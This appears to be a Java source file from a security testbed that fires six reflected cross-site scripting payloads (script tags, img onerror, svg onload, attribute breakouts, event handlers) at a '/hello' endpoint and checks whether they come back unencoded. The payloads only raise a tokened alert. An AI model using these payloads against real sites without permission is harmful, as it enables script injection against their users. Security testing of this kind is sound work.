package secplane.testbeds.attacks.injection;

import java.net.http.HttpResponse;
import java.util.List;
import java.util.UUID;
import secplane.testbeds.attacks.AttackResult;
import secplane.testbeds.attacks.Testbed;

/**
 * Reflected cross-site scripting (CWE-79) in {@code /hello?name=}, which echoes the name into an
 * HTML heading and into a form field's {@code value} attribute. Evidence: the payload, carrying a
 * fresh token, comes back verbatim (unencoded) in a {@code text/html} response, where a browser
 * would run it.
 */
public final class XssAttack extends InjectionAttack {

    public enum Variant implements InjectionVariant {
        SCRIPT_TAG("<script>alert('<token>')</script>"),
        MIXED_CASE_SCRIPT("<ScRiPt>alert('<token>')</sCrIpT>"),
        IMG_ONERROR("<img src=x onerror=alert('<token>')>"),
        SVG_ONLOAD("<svg/onload=alert('<token>')>"),
        /** Leaves the quoted {@code value} attribute and the input element. */
        ATTRIBUTE_BREAKOUT("\"><script>alert('<token>')</script>"),
        /** Stays in the input element and adds an event handler. */
        EVENT_HANDLER("\" autofocus onfocus=\"alert('<token>')");

        private final String payload;

        Variant(String payload) {
            this.payload = payload;
        }

        @Override
        public String endpoint() {
            return "/hello";
        }

        @Override
        public String payload() {
            return payload;
        }
    }

    @Override
    public Category category() {
        return Category.XSS;
    }

    @Override
    public List<Variant> variants() {
        return List.of(Variant.values());
    }

    @Override
    public AttackResult fire(Testbed target, InjectionVariant injectionVariant, Twin twin) throws Exception {
        Variant variant = own(Variant.class, injectionVariant);
        String payload = variant.payload().replace("<token>", "xss-" + UUID.randomUUID().toString().substring(0, 8));
        HttpResponse<String> response = get(target, twin.path(variant.endpoint()), "name", payload);
        boolean html = response.headers().firstValue("Content-Type").orElse("").startsWith("text/html");
        boolean reflected = html && response.body().contains(payload);
        return result(variant, twin, reflected, response.statusCode(), reflected
                ? "the payload came back unencoded in an HTML page: " + payload
                : "the payload did not come back as markup (" + abbreviate(response.body()) + ")");
    }
}
